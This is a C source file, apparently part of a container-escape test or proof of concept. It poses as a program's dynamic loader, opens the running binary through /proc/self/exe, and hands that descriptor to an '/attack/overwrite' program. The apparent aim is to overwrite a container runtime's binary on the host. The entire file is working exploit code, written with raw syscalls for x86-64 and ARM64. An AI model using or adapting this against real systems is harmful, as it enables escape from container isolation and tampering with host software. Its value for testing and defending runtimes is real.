// Stands where a program's dynamic loader is expected, without a C library. What is executed is then the program that the kernel
// was asked for, the runtime's own binary for instance, but with this code in it: it keeps a descriptor of that program and goes on
// as /attack/overwrite.
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

void _start(void) {
    long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
    char number[3] = {'0' + fd / 10, '0' + fd % 10, 0};
    char *arguments[] = {"/attack/overwrite", number, 0};
    char *environment[] = {0};
    call(SYS_execve, (long)arguments[0], (long)arguments, (long)environment, 0);
    call(SYS_exit_group, 1, 0, 0, 0);
    __builtin_unreachable();
}
